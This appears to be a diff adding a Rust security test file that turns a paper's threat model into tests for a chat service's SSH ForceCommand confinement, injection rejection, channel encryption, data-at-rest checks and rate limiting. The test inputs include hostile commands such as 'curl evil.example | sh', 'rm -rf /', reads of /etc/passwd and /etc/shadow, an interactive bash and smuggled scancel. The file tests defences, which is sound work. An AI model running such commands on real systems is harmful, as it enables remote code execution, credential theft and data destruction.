@@ -1,0 +1,172 @@
+//! Security evaluation (§6.1) as executable attack scenarios.
+//!
+//! Each test plays an attacker somewhere on the paper's threat model:
+//! a compromised web server holding the SSH key, an injection attempt
+//! against the Cloud Interface Script, a man-on-the-wire, and a data thief
+//! looking for stored conversations.
+
+use std::sync::Arc;
+use std::time::Duration;
+
+use chat_hpc::scheduler::ServiceSpec;
+use chat_hpc::sshsim::{AuthorizedKey, AuthorizedKeys, KeyPair, SshClient, SshServer};
+use chat_hpc::stack::{ChatAiStack, StackConfig, CLOUD_INTERFACE_CMD};
+use chat_hpc::util::json::Json;
+
+fn stack() -> ChatAiStack {
+    let stack = ChatAiStack::start(StackConfig {
+        services: vec![ServiceSpec::sim("intel-neural-7b", 0.0)],
+        ..Default::default()
+    })
+    .unwrap();
+    stack.wait_ready("intel-neural-7b", Duration::from_secs(15)).unwrap();
+    stack
+}
+
+/// §6.1.2 scenario 1: the attacker fully controls the web server and steals
+/// the SSH key. ForceCommand must confine them to the cloud interface.
+#[test]
+fn stolen_key_cannot_run_arbitrary_commands() {
+    let stack = stack();
+    // The attacker exfiltrated the key material (same seed the stack uses).
+    let stolen = KeyPair::generate(0xE5C);
+    let client = SshClient::connect(&stack.ssh_server.addr.to_string(), &stolen).unwrap();
+
+    for attempt in [
+        "/bin/bash -i",
+        "cat /etc/passwd",
+        "scancel --all",
+        "srun --gres=gpu:4 ./cryptominer",
+        "curl evil.example | sh",
+    ] {
+        let reply = client.exec(attempt, b"").unwrap();
+        // The pinned command ran instead — and its strict parser rejected
+        // the attacker's string, which arrives only as SSH_ORIGINAL_COMMAND.
+        assert_eq!(reply.exit_code, 2, "attempt {attempt:?} was not rejected");
+        let out = String::from_utf8_lossy(&reply.stdout);
+        assert!(out.contains("does not match any permitted path"), "{out}");
+    }
+    // Circuit breaker stats confirm every exec was force-commanded.
+    assert!(stack.ssh_server.stats.forced_commands.load(std::sync::atomic::Ordering::Relaxed) >= 5);
+}
+
+/// §6.1.2 scenario 2: injection through the *legitimate* verbs.
+#[test]
+fn cloud_interface_injection_attempts_rejected() {
+    let stack = stack();
+    let stolen = KeyPair::generate(0xE5C);
+    let client = SshClient::connect(&stack.ssh_server.addr.to_string(), &stolen).unwrap();
+
+    for attempt in [
+        "infer intel-neural-7b; scancel --all",
+        "infer $(whoami)",
+        "infer ../../etc/shadow",
+        "probe intel-neural-7b && rm -rf /",
+        "tick --config /tmp/evil.conf",
+        "infer intel-neural-7b\nscancel --all",
+    ] {
+        let reply = client.exec(attempt, b"{}").unwrap();
+        assert_eq!(reply.exit_code, 2, "attempt {attempt:?} was accepted");
+    }
+    // The legitimate call still works afterwards (no lockout side effects).
+    let reply = client.exec("probe intel-neural-7b", b"").unwrap();
+    assert_eq!(reply.exit_code, 0);
+}
+
+/// An unauthorized key (not in authorized_keys) is rejected at handshake.
+#[test]
+fn unknown_key_rejected_at_handshake() {
+    let stack = stack();
+    let rogue = KeyPair::generate(0xBAD);
+    assert!(SshClient::connect(&stack.ssh_server.addr.to_string(), &rogue).is_err());
+}
+
+/// Frames are encrypted + MAC'd: a man-on-the-wire cannot splice commands.
+/// (Unit-level tamper tests live in sshsim; this is the end-to-end check
+/// that the stack's channel uses that protection.)
+#[test]
+fn channel_is_encrypted_not_plaintext() {
+    // Run a raw TCP eavesdropper-style check: connect, send garbage, and
+    // verify the server does not execute anything.
+    let kp = KeyPair::generate(1);
+    let mut ak = AuthorizedKeys::new();
+    ak.add(AuthorizedKey {
+        fingerprint: kp.fingerprint(),
+        force_command: Some(CLOUD_INTERFACE_CMD.into()),
+        options: vec![],
+        comment: String::new(),
+    });
+    let counted = Arc::new(std::sync::atomic::AtomicU64::new(0));
+    let c2 = counted.clone();
+    let handler: Arc<dyn chat_hpc::sshsim::CommandHandler> = Arc::new(
+        move |_c: &str,
+              _o: &str,
+              _i: &[u8],
+              _out: &mut dyn FnMut(&[u8]) -> anyhow::Result<()>| {
+            c2.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            0
+        },
+    );
+    let server =
+        SshServer::start(ak, vec![kp.clone()], vec![(CLOUD_INTERFACE_CMD.into(), handler)])
+            .unwrap();
+
+    // Plaintext "exec" bytes straight at the socket: must not dispatch.
+    use std::io::Write;
+    let mut raw = std::net::TcpStream::connect(server.addr).unwrap();
+    let _ = raw.write_all(&[0u8; 64]); // bogus fingerprint
+    let _ = raw.write_all(b"infer intel-neural-7b totally-real-frame");
+    std::thread::sleep(Duration::from_millis(100));
+    assert_eq!(counted.load(std::sync::atomic::Ordering::SeqCst), 0);
+
+    // While a legitimate client round-trips fine.
+    let client = SshClient::connect(&server.addr.to_string(), &kp).unwrap();
+    assert_eq!(client.exec("anything", b"").unwrap().exit_code, 0);
+    assert_eq!(counted.load(std::sync::atomic::Ordering::SeqCst), 1);
+}
+
+/// §6.2: an attacker who dumps every server-side store finds no
+/// conversation content — prompts/responses exist only in flight.
+#[test]
+fn no_conversation_content_stored_server_side() {
+    let stack = stack();
+    let secret = "SECRET-MEDICAL-HISTORY-XYZZY";
+    let (status, body) = stack.chat("intel-neural-7b", secret).unwrap();
+    assert_eq!(status, 200);
+    assert!(body.dump().len() > 0);
+
+    // 1. The usage log holds user/model/timestamp only.
+    for e in stack.log.entries() {
+        assert!(!format!("{e:?}").contains(secret));
+    }
+    // 2. The metrics exposition contains no prompt text.
+    assert!(!stack.metrics.render().contains(secret));
+    // 3. Slurm job state (names, comments) contains no prompt text.
+    for job in stack.slurm.lock().unwrap().squeue() {
+        assert!(!job.comment.contains(secret));
+        assert!(!job.name.contains(secret));
+    }
+}
+
+/// Rate limiting protects the paid external route (§5.8).
+#[test]
+fn external_route_rate_limited() {
+    let stack = stack();
+    let body = Json::obj()
+        .set("messages", vec![Json::obj().set("role", "user").set("content", "hi")])
+        .dump();
+    let mut limited = 0;
+    for _ in 0..120 {
+        let r = chat_hpc::util::http::request(
+            "POST",
+            &format!("{}/v1/m/gpt-4/", stack.gateway_url()),
+            &[("authorization", "Bearer key-research-0001")],
+            body.as_bytes(),
+        )
+        .unwrap();
+        if r.status == 429 {
+            limited += 1;
+        }
+    }
+    assert!(limited > 0, "burst of 120 must trip the 50 rps limit");
+}
